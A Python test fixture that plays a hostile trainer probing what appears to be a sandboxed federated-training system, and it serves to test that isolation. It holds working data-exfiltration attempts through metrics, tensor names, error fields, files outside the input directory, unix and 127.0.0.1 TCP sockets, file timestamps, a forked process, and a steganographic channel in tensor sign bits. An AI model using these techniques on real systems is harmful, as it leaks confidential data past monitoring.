"""A trainer that wants the nation's sentences outside. It knows our code and uses it; it is no worse for that.

Put in the child's place by `TrainerSettings.program`. It behaves until it is asked to train; the recipe's seed then
picks one way out from `ATTACKS`, and each later round the next. Each way is a real attempt: what it sends or opens is
what would carry the text. A way that the kernel closes is reported as the harmless code TRAINER_FAILED, so that an
attempt that got through shows.
"""

from __future__ import annotations

import os
import re
import socket
import struct
from collections.abc import Callable
from pathlib import Path

import numpy as np

from node_agent.training.frames import Arrays, Frame, PipeEnd
from node_agent.training.pairs import Pair, read_pairs
from treaty.recipe import parse_recipe
from treaty.strict_json import JsonObject


class Hostile:
    """What it has read, and the honest-looking answer that it would bend."""

    def __init__(self, pipe: PipeEnd) -> None:
        self.pipe = pipe
        self.pairs: list[Pair] = []
        self.input_dir = Path()
        self.given: Arrays = {}
        self.metrics: JsonObject = {}

    @property
    def loot(self) -> str:
        return self.pairs[0].source

    def delta(self, metrics: JsonObject | None = None, arrays: Arrays | None = None) -> Frame:
        return Frame("delta", {"metrics": metrics or self.metrics}, arrays or self.zeros())

    def zeros(self) -> Arrays:
        return {name: np.zeros_like(value) for name, value in self.given.items()}


def metric_name(hostile: Hostile) -> Frame:
    return hostile.delta(metrics={**hostile.metrics, hostile.loot: 1})


def metric_text(hostile: Hostile) -> Frame:
    return hostile.delta(metrics={**hostile.metrics, "train_loss_micro": hostile.loot})


def metric_number(hostile: Hostile) -> Frame:
    six_letters = int.from_bytes(hostile.loot.encode()[:6], "big")
    return hostile.delta(metrics={**hostile.metrics, "train_loss_micro": six_letters})


def metric_off_grid(hostile: Hostile) -> Frame:
    return hostile.delta(metrics={**hostile.metrics, "train_loss_micro": 1_000_000 + hostile.loot.encode()[0]})


def examples_claim(hostile: Hostile) -> Frame:
    return hostile.delta(metrics={**hostile.metrics, "examples": 64_000})


def tensor_name(hostile: Hostile) -> Frame:
    renamed = dict(zip([hostile.loot, *list(hostile.given)[1:]], hostile.zeros().values(), strict=True))
    return hostile.delta(arrays=renamed)


def extra_tensor(hostile: Hostile) -> Frame:
    letters = np.frombuffer(hostile.loot.encode(), np.uint8).astype(np.float32)
    return hostile.delta(arrays={**hostile.zeros(), "letters": letters})


def tensor_shape(hostile: Hostile) -> Frame:
    arrays = hostile.zeros()
    first = next(iter(arrays))
    return hostile.delta(arrays={**arrays, first: arrays[first].reshape(-1)})


def not_finite(hostile: Hostile) -> Frame:
    arrays = hostile.zeros()
    next(iter(arrays.values()))[0, 0] = np.nan
    return hostile.delta(arrays=arrays)


def extra_field(hostile: Hostile) -> Frame:
    return Frame("delta", {"metrics": hostile.metrics, "note": hostile.loot}, hostile.zeros())


def error_text(hostile: Hostile) -> Frame:
    return Frame("error", {"code": hostile.loot})


def error_note(hostile: Hostile) -> Frame:
    return Frame("error", {"code": "TRAINER_FAILED", "why": hostile.loot})


def frame_type(hostile: Hostile) -> Frame:
    return Frame(hostile.loot[:60], {})


def huge_claim(hostile: Hostile) -> Frame:
    os.write(hostile.pipe._outgoing.fileno(), struct.pack("<II", 4000, 2**32 - 1) + hostile.loot.encode())
    return hostile.delta()


def outside_file(hostile: Hostile) -> Frame:
    return _tried(hostile, lambda: (hostile.input_dir.parent.parent / "leak.txt").write_text(hostile.loot))


def input_file(hostile: Hostile) -> Frame:
    return _tried(hostile, lambda: (hostile.input_dir / "leak.txt").write_text(hostile.loot))


def unix_socket(hostile: Hostile) -> Frame:
    address = str(hostile.input_dir.parent.parent / "leak.sock")
    return _tried(hostile, lambda: _connect(socket.AF_UNIX, address, hostile.loot))


def ip_socket(hostile: Hostile) -> Frame:
    found = re.search(r"port (\d+)", " ".join(pair.source for pair in hostile.pairs))
    address = ("127.0.0.1", int(found[1]) if found else 9)
    return _tried(hostile, lambda: _connect(socket.AF_INET, address, hostile.loot))


def file_time(hostile: Hostile) -> Frame:
    second = int.from_bytes(hostile.loot.encode()[:4], "big")
    return _tried(hostile, lambda: os.utime(hostile.input_dir.parent.parent, (second, second)))


def helper_process(hostile: Hostile) -> Frame:
    return _tried(hostile, lambda: os.fork() or os._exit(0))


def tensor_values(hostile: Hostile) -> Frame:
    """The way that stays open: the signs of values that are all of one size, a letter in eight of them."""
    bits = np.unpackbits(np.frombuffer(hostile.loot.encode(), np.uint8))
    signs = np.where(bits, 1.0, -1.0).astype(np.float32) * 1e-3
    arrays = hostile.zeros()
    first = next(iter(arrays.values()))
    first.reshape(-1)[: signs.size] = signs
    return hostile.delta(arrays=arrays)


ATTACKS: tuple[Callable[[Hostile], Frame], ...] = (
    *(metric_name, metric_text, metric_number, metric_off_grid, examples_claim, tensor_name, extra_tensor),
    *(tensor_shape, not_finite, extra_field, error_text, error_note, frame_type, huge_claim, outside_file),
    *(input_file, unix_socket, ip_socket, file_time, helper_process, tensor_values),
)


def _connect(family: int, address: str | tuple[str, int], text: str) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as opened:
        opened.connect(address)
        opened.sendall(text.encode())


def _tried(hostile: Hostile, attempt: Callable[[], object]) -> Frame:
    try:
        attempt()
    except OSError:
        return Frame("error", {"code": "TRAINER_FAILED"})
    return hostile.delta()


def main(pipe: PipeEnd) -> None:
    hostile = Hostile(pipe)
    while (frame := pipe.receive()) is not None:
        match frame.type:
            case "load":
                pipe.send(Frame("loaded"))
            case "read":
                path = Path(str(frame.fields["file"]))
                hostile.pairs, hostile.input_dir = read_pairs(path), path.parent
                pipe.send(Frame("read"))
            case "train":
                recipe = parse_recipe(frame.fields["recipe"])
                hostile.given = frame.arrays
                hostile.metrics = {
                    "heldout_loss_micro": 2_000_000,
                    "heldout_pairs": recipe.heldout_pairs,
                    "heldout_tokens": 64,
                    "train_loss_micro": 2_000_000,
                    "examples": recipe.examples,
                    "steps": recipe.steps,
                }
                pipe.send(ATTACKS[recipe.seed + int(str(frame.fields["round"])) - 1](hostile))
            case "evaluate":
                pipe.send(Frame("evaluated", {"metrics": {hostile.loot: 1}}))
